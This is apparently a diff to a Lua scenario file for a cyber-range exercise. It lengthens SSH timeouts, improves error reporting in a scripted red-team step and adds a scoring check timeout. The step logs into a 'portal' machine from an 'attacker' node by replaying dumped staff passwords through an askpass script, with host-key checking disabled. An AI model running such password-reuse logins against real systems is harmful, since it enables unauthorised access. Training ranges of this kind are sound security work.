@@ -158,7 +158,9 @@ local function curl(ctx, path)
 end
 
 -- `remote` on `node` over SSH as `cred` ({user, pass}), from the attacker.
--- OpenSSH reads the password from an askpass script (no sshpass in Debian's base).
+-- OpenSSH reads the password from an askpass script (no sshpass in Debian's
+-- base). ConnectTimeout also bounds the key exchange: generous, since
+-- emulated guests on a busy host take tens of seconds for it.
 local function ssh(ctx, node, cred, remote)
   local loot = "/root/loot/" .. ctx.team
   ctx.put("attacker", loot .. ".pw", cred.pass .. "\n", tonumber("600", 8))
@@ -166,8 +168,8 @@ local function ssh(ctx, node, cred, remote)
           tonumber("700", 8))
   return ctx.exec("attacker", string.format(
     "SSH_ASKPASS=%s.askpass SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no "
-    .. "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=30 -o NumberOfPasswordPrompts=1 "
-    .. "%s@%s %s </dev/null 2>&1", loot, cred.user, ctx.addr(node), q(remote)), 150)
+    .. "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=150 -o NumberOfPasswordPrompts=1 "
+    .. "%s@%s %s </dev/null 2>&1", loot, cred.user, ctx.addr(node), q(remote)), 300)
 end
 
 inject "recon-web" {
@@ -204,14 +206,16 @@ inject "ssh-portal" {
   repeats = 2, every = "3m", until_success = true, points = { success = 20 },
   description = "Try the dumped staff passwords over SSH (password reuse)",
   run = function(ctx)
+    local said = ""
     for _, cred in ipairs(CREDS or {}) do
-      local r = ssh(ctx, "portal", cred, "id")
+      local r, err = ssh(ctx, "portal", cred, "id")
       if r and r.out:find("uid=", 1, true) then
         WORKING = cred
         return true, "ssh login as " .. cred.user
       end
+      said = r and r.out:sub(-160) or err
     end
-    return false, "no dumped password works over SSH"
+    return false, "no dumped password works over SSH: " .. tostring(said)
   end,
 }
 
@@ -328,6 +332,7 @@ scoring {
   weights = { availability = 0.25, red_impact = 0.30, detection = 0.25, reports = 0.15,
               penalties = 0.05 },
   check_interval = "60s",
+  check_timeout = "20s",  -- OpenSSH's greeting takes seconds on emulated guests
   sla_threshold = 3,
   ttd_full_credit = "10m",
   ttd_zero_credit = "60m",
